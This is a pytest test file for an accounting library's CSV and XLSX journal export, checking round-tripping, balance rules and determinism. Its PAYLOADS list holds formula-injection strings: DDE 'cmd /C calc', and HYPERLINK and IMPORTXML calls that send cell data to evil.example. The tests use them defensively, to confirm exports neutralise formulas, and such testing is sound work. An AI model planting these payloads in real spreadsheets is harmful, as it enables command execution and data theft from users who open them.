"""Journals as CSV and XLSX: read back as given, and no text in them can act."""

import csv
import datetime
import io
import tempfile
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape

from kvit.formats.books import workbook
from kvit.formats.books.journal import csv_file, rows, xlsx_file
from kvit.formats.books.journal.rows import JournalRow
from kvit.formats.writing import Unwritable
from kvit.kernel.money import Money

DAY = datetime.date(2026, 3, 2)
SIGNS = "=+-@\t\r\n＝＋－＠"
BODIES = [
    "cmd|' /C calc'!A0", "1+1", "HYPERLINK(\"http://evil.example/?\"&A1)", "SUM(A1:A9)", "0048123456789",
    "DDE(\"cmd\";\"/C calc\")", "IMPORTXML(\"http://evil.example\")", " 2+2", "'", "",
]  # fmt: skip
PAYLOADS = [f"{before}{sign}{body}" for before in ("", "'") for sign in SIGNS for body in BODIES]
FIELDS = ("entry", "account", "account_name", "text", "document", "party")


def pair(**texts: str) -> list[JournalRow]:
    """A balanced entry with these texts in its first row."""
    usual = {"entry": "A1", "account": "1510", "account_name": "Receivables"} | texts
    other = {"entry": usual["entry"], "account": "3001", "account_name": "Sales"}
    return [
        JournalRow(date=DAY, amount=Money(12345, "SEK"), **usual),
        JournalRow(date=DAY, amount=Money(-12345, "SEK"), **other),
    ]


ENTRIES = st.builds(
    lambda texts, minor, currency: [
        JournalRow(entry=texts[0], date=DAY, account=texts[1], account_name=texts[2], text=texts[3], document=texts[4],
                   party=texts[5], amount=Money(minor, currency)),
        JournalRow(entry=texts[0], date=DAY, account="9", account_name="", amount=Money(-minor, currency)),
    ],
    st.tuples(*[st.text(st.characters(exclude_categories=["Cs"])) | st.sampled_from(PAYLOADS)] * 6),
    st.integers(1, 10**14),
    st.sampled_from(["SEK", "PLN", "JPY", "KWD"]),
)  # fmt: skip


def cells(data: bytes) -> list[list[Any]]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    return [list(row) for row in sheet.iter_rows()]


class TestAJournalInCsv:
    @settings(max_examples=200, deadline=None)
    @given(given_rows=ENTRIES)
    def test_reads_back_as_it_was_given(self, given_rows: list[JournalRow]) -> None:
        read = csv_file.read(csv_file.write(given_rows).content)
        assert (list(read.records), read.problems) == (given_rows, ())

    @pytest.mark.parametrize("field", FIELDS)
    def test_holds_no_cell_that_begins_like_a_formula(self, field: str) -> None:
        assert len(PAYLOADS) >= 200
        given_rows = [row for payload in PAYLOADS for row in pair(**{field: payload})]
        text = csv_file.write(given_rows).content.decode("utf-8-sig")
        for line in csv.reader(io.StringIO(text, newline="")):
            assert not [cell for cell in line if cell.lstrip(" ")[:1] and cell.lstrip(" ")[0] in SIGNS]

    def test_would_hold_some_if_texts_were_not_quoted(self, monkeypatch: pytest.MonkeyPatch) -> None:
        """Planted fault: the quoting gives the text as it is."""
        monkeypatch.setattr(csv_file, "quoted", lambda text: text)
        assert b",=1+1," in csv_file.write(pair(text="=1+1")).content

    def test_leaves_names_with_an_apostrophe_alone(self) -> None:
        assert rows.quoted("'t Hart") == "'t Hart"
        assert rows.quoted("O'Brien - Co") == "O'Brien - Co"

    def test_says_debit_and_credit_without_signs(self) -> None:
        written = csv_file.write(pair())
        assert written.totals == (Money(12345, "SEK"),)
        assert written.content.decode("utf-8-sig").splitlines()[1:] == [
            "A1,2026-03-02,1510,Receivables,123.45,,SEK,,,",
            "A1,2026-03-02,3001,Sales,,123.45,SEK,,,",
        ]

    @pytest.mark.parametrize("module", [csv_file, xlsx_file])
    def test_names_an_entry_that_does_not_balance(self, module: Any) -> None:
        with pytest.raises(Unwritable, match="entry A1: does not balance: 12345 minor units of SEK too much in debit"):
            module.write(pair()[:1])

    def test_reads_a_broken_line_as_a_problem_with_its_number(self) -> None:
        content = csv_file.write(pair()).content.replace(b"123.45,,SEK", b"123.45,1,SEK").replace(b"3001", b"3001")
        read = csv_file.read(content)
        assert len(read.records) == 1
        assert [problem.place for problem in read.problems] == ["line 2"]

    @given(data=st.binary(max_size=300))
    def test_never_raises_on_what_is_read(self, data: bytes) -> None:
        head = ",".join(rows.HEAD).encode() + b"\r\n"
        for one in (data, head + data):
            csv_file.read(one)


class TestAJournalInXlsx:
    @settings(max_examples=60, deadline=None)
    @given(given_rows=ENTRIES)
    def test_reads_back_as_it_was_given_where_xml_can_hold_it(self, given_rows: list[JournalRow]) -> None:
        written = xlsx_file.write(given_rows)
        for row, line in zip(given_rows, cells(written.content)[1:], strict=True):
            texts = [unescape(cell.value or "") for cell in (line[0], line[2], line[3], *line[7:])]
            assert texts == [xlsx_file._ILLEGAL.sub("\ufffd", getattr(row, name)) for name in FIELDS]
            assert line[1].value.date() == row.date
            debit, credit = (cell.value for cell in line[4:6])
            assert (debit is None) != (credit is None)
            assert round((debit or 0) * 10**4) - round((credit or 0) * 10**4) == row.amount.to_decimal() * 10**4

    @pytest.mark.parametrize("field", FIELDS)
    def test_holds_every_text_as_a_quoted_string_and_no_formula(self, field: str) -> None:
        position = rows.HEAD.index(field)
        given_rows = [row for payload in PAYLOADS for row in pair(**{field: payload})]
        found = [line[position] for line in cells(xlsx_file.write(given_rows).content)[1::2]]
        assert {(cell.data_type, cell.quotePrefix) for cell in found} == {("s", True)}
        assert [unescape(cell.value or "") for cell in found] == PAYLOADS

    def test_would_hold_a_formula_through_a_library_that_guesses(self) -> None:
        """Planted fault: openpyxl's own writing, which takes a text that begins with = for a formula."""
        book = openpyxl.Workbook()
        assert book.active is not None
        book.active.append(["=1+1"])
        kept = io.BytesIO()
        book.save(kept)
        assert cells(kept.getvalue())[0][0].data_type == "f"

    def test_of_equal_rows_is_equal_to_the_byte_whenever_it_is_written(self) -> None:
        content = xlsx_file.write(pair()).content
        assert xlsx_file.write(pair()).content == content
        archive = zipfile.ZipFile(io.BytesIO(content))
        assert {entry.date_time[:3] for entry in archive.infolist()} == {(1980, 1, 1)}
        properties = openpyxl.load_workbook(io.BytesIO(content)).properties
        assert properties.created == properties.modified
        assert properties.created is not None
        assert properties.created.date() == datetime.date(1980, 1, 1)

    def test_would_tell_the_time_through_the_library_alone(self, monkeypatch: pytest.MonkeyPatch) -> None:
        """Planted fault: an archive whose entries have the time at which they were written."""
        monkeypatch.setattr(workbook, "_Timeless", zipfile.ZipFile)
        archive = zipfile.ZipFile(io.BytesIO(xlsx_file.write(pair()).content))
        assert all(entry.date_time[0] > 2020 for entry in archive.infolist())

    def test_that_is_refused_leaves_no_file_behind(self, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
        monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
        monkeypatch.setattr(workbook, "MOST_ROWS", 1)
        with pytest.raises(Unwritable):
            xlsx_file.write(pair())
        assert list(tmp_path.iterdir()) == []

    @pytest.mark.parametrize(("name", "shown"), [("F/2026:1", "F-2026-1"), ("x" * 40, "x" * 31)])
    def test_has_a_name_that_a_sheet_may_have(self, name: str, shown: str) -> None:
        kept = io.BytesIO()
        workbook.write(kept, name=name, head=("a",), rows=[])
        assert openpyxl.load_workbook(kept).sheetnames == [shown]

    def test_notes_what_a_sheet_cannot_hold(self) -> None:
        written = xlsx_file.write(pair(text="a\x01b", party="x" * 40_000))
        assert [note.place for note in written.notes] == ["rows[0]/text", "rows[0]/party"]
        big = [
            JournalRow(entry="1", date=DAY, account="1", account_name="", amount=Money(sign * 10**17, "SEK"))
            for sign in (1, -1)
        ]
        assert len(xlsx_file.write(big).notes) == 2

    def test_refuses_more_rows_than_a_sheet_holds(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(workbook, "MOST_ROWS", 1)
        with pytest.raises(Unwritable, match="a sheet holds 1"):
            xlsx_file.write(pair())

    def test_writes_a_day_that_sheets_do_not_know_as_text(self) -> None:
        old = [
            JournalRow(entry="1", date=datetime.date(1899, 5, 1), account="1", account_name="", amount=Money(m, "SEK"))
            for m in (1, -1)
        ]
        assert cells(xlsx_file.write(old).content)[1][1].value == "1899-05-01"
